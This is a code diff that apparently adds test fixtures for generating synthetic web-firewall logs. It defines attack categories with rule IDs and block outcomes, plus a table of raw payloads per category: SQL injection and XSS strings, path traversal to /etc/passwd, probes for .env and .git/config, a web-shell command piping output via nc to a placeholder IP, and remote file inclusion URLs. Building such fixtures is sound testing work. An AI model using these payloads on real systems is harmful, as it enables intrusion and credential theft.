@@ -187,3 +187,63 @@ AA_NAMES: tuple[str, ...] = (
     "SQL Injection attack from multiple IPs using sqlmap",
     "Bot Access Control attack from 3 countries using Bot",
 )
+
+
+class AttackKind(NamedTuple):
+    """A rule type of FORMATS §2.2 with its outcomes and the (fileType, filePermission, cs9)
+    triples it reports."""
+
+    name: str
+    rule_type: int
+    weight: int
+    acts: tuple[str, ...]
+    entries: tuple[tuple[str, str, str], ...]
+
+
+ATTACKS: tuple[AttackKind, ...] = (
+    AttackKind("SQL Injection", 0, 20,
+               ("REQ_BLOCKED_SESSION",) * 5 + ("REQ_BLOCKED", "REQ_BLOCKED", "REQ_PASSED", "REQ_BLOCKED_SECURITY"),
+               (("12999", "37", ""), ("30037", "2", "High Risk SQL Expressions"), ("50037", "1", "SQL SELECT Expression"),
+                ("50044", "1", ""), ("50033", "666", "SQL Injection"))),
+    AttackKind("Cross Site Scripting", 1, 15, ("REQ_BLOCKED_SESSION",) * 4 + ("REQ_PASSED", "REQ_BLOCKED_VISITOR"),
+               (("20001", "4", "XSS Script Tag"), ("20007", "9", "XSS Event Handler"), ("1001", "1", ""))),
+    AttackKind("Illegal Resource Access", 3, 15, ("REQ_BLOCKED_SESSION", "REQ_BLOCKED_SESSION", "REQ_CHALLENGE_CAPTCHA", "REQ_PASSED"),
+               (("30037", "2", "Block Malicious User"), ("1001", "1", "High Risk Resources"), ("30045", "5", "Path Traversal"))),
+    AttackKind("Bot Access Control", 4, 10,
+               ("REQ_CHALLENGE_CAPTCHA", "REQ_CHALLENGED_CAPTCHA", "REQ_BLOCKED_VISITOR", "REQ_BLOCKED_COOKIELESS_SESSION"),
+               (("40001", "3", "Suspected Bot"), ("40005", "8", "Bad Reputation Bot"))),
+    AttackKind("DDoS", 8, 6, ("REQ_BLOCKED_DDOS",) * 4 + ("REQ_CHALLENGE_CAPTCHA",), (("80001", "1", "DDoS Protection"),)),
+    AttackKind("Backdoor Protect", 9, 4, ("REQ_BLOCKED_SESSION", "REQ_BLOCKED_SECURITY"),
+               (("90001", "12", "Backdoor Protection"), ("90002", "13", "Web Shell Access"))),
+    AttackKind("Remote File Inclusion", 10, 5, ("REQ_BLOCKED_SESSION", "REQ_BLOCKED_SESSION", "REQ_PASSED"),
+               (("10001", "7", "Remote File Inclusion"), ("10003", "2", ""))),
+    AttackKind("IncapRules", 11, 10, ("REQ_BLOCKED_SECURITY",) * 3 + ("REQ_CHALLENGE_CAPTCHA", "REQ_PASSED"),
+               (("110001", "1", "Block admin from outside"), ("110002", "1", "Rate limit login"))),
+    # The violation's own entry goes last; cs11's leading commas point at it (see _api_violation).
+    AttackKind("API Specification Violation", 12, 4, ("REQ_BLOCKED_SECURITY", "REQ_PASSED"),
+               (("30037", "2", "Block Malicious User"), ("1001", "1", "High Risk Resources"),
+                ("60001", "1", "API Specification Violation"))),
+    AttackKind("Account Takeover Protection", 13, 4, ("REQ_BLOCKED", "REQ_CHALLENGE_CAPTCHA"),
+               (("70001", "1", "Credential Stuffing"), ("70002", "2", "Brute Force"))),
+    AttackKind("Bad Bot", 14, 5, ("REQ_BLOCKED_VISITOR", "REQ_BLOCKED_VISITOR", "REQ_CHALLENGED_CAPTCHA", "REQ_BLOCKED"),
+               (("140001", "1", "Bad Bot"), ("140002", "3", "Known Violator"))),
+    AttackKind("Blocked country", -1, 6, ("REQ_BLOCKED_ACL",) * 3 + ("REQ_BLOCKED",), ()),
+)
+INCAP_RULE_NAMES = ("Block admin from outside", "Rate limit login", "Temp_dump")
+
+# Raw payloads per rule type: (path, qstr, postbody); None keeps the ordinary value.
+PAYLOADS: dict[int, tuple[tuple[str | None, str | None, str | None], ...]] = {
+    0: ((None, "id=1' OR 1=1--", None), (None, "id=1%27%20OR%201%3D1--", None),
+        ("/login", None, "username=admin' OR 1=1--&password=x"),
+        (None, "keywords=3)))%20AND%203434%3d(SELECT%20CASE%203434%20WHEN%203434%20THEN%201%20ELSE%200%20END)", None)),
+    1: ((None, "q=<script>alert(1)</script>", None), (None, "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", None),
+        ("/comments", None, "comment=<img src=x onerror=alert(1)>")),
+    3: (("/static/../../etc/passwd", None, None), (None, "file=../../etc/passwd", None), (None, "p=%2fetc%2fpasswd", None),
+        ("/.env", None, None), ("/.git/config", None, None), ("/wp-config.php.bak", None, None)),
+    9: (("/wp-content/uploads/shell.php", "cmd=id | nc 203.0.113.66 4444", None), ("/c99.php", None, "c=system('id');")),
+    10: ((None, "page=http://203.0.113.66/shell.txt?", None), (None, "inc=https://198.51.100.77/r57.txt", None)),
+    11: (("/admin", None, None), ("/wp-login.php", None, None), ("/login", None, "user=bob&pass=hunter2")),
+    12: (("/api/v1/orders", None, '{"sku":"A-1","qty":2,"coupon":"x=1"}'),),
+    13: (("/login", None, "username=alice%40example.com&password=%2A%2A%2A%2A"),),
+}
+API_VIOLATIONS = ("INVALID_PARAM_NAME", "MISSING_PARAM", "INVALID_PARAM_VALUE", "INVALID_METHOD")
